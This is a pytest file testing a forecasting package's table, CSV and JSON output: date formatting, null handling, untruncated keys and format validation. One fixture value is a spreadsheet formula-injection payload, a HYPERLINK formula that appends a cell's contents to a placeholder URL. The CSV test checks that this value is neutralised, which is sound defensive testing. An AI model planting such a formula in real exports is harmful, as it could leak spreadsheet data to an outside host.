"""Output for scripts: one emit for tables, CSV and JSON, and a console that never cuts a key."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from rich.table import Table

from sopforecast.console import console
from sopforecast.output import emit

LONG = "Personal Care/Soap/SKU-00012/West/online"


@pytest.fixture
def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "key": [LONG, '=HYPERLINK("http://x/?"&A1,"open")', "00101"],
            "ds": pd.to_datetime(["2025-12-01", "2026-01-01", None]),
            "value": [0.25, -1.5, float("nan")],
            "n": [1, 2, 3],
        }
    )


def test_csv_is_neutralised_and_keeps_keys_and_dates(frame, capsys):
    emit(frame, "csv")
    out = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["key"] for r in rows] == [LONG, '\'=HYPERLINK("http://x/?"&A1,"open")', "00101"]
    assert [r["ds"] for r in rows] == ["2025-12-01", "2026-01-01", ""]
    assert rows[1]["value"] == "-1.5"  # a negative number stays a number
    assert frame["key"].iloc[1].startswith("=")  # the caller's frame is untouched


def test_json_records_with_iso_dates(frame, tmp_path):
    target = tmp_path / "out.json"
    emit(frame, "json", target)
    records = json.loads(target.read_text(encoding="utf-8"))
    assert records[0] == {"key": LONG, "ds": "2025-12-01", "value": 0.25, "n": 1}
    assert records[2]["ds"] is None and records[2]["value"] is None and records[2]["key"] == "00101"
    stamps = pd.DataFrame({"at": pd.to_datetime(["2026-01-05 08:30"])})
    emit(stamps, "json", target)
    assert json.loads(target.read_text())[0]["at"] == "2026-01-05T08:30:00"


def test_table_on_a_pipe_never_cuts_a_key(frame, capsys, monkeypatch):
    monkeypatch.setenv("COLUMNS", "40")  # narrower than the key: rich would ellipsize it
    emit(frame, "table", title="exceptions")
    out = capsys.readouterr().out
    assert LONG in out and "…" not in out and "exceptions" in out
    # the package's console too, for every command's own tables
    table = Table()
    table.add_column("key")
    table.add_column("action")
    table.add_row(LONG, "review the plan " * 12)
    console.print(table)
    out = capsys.readouterr().out
    assert LONG in out and "review the plan " * 12 in out and "…" not in out


def test_table_to_a_file_and_bad_format(frame, tmp_path):
    target = tmp_path / "table.txt"
    emit(frame, "table", target, title="exceptions")
    text = target.read_text(encoding="utf-8")
    assert LONG in text and "\x1b[" not in text  # plain text, no colour codes
    with pytest.raises(ValueError, match="table, csv, json"):
        emit(frame, "xml")
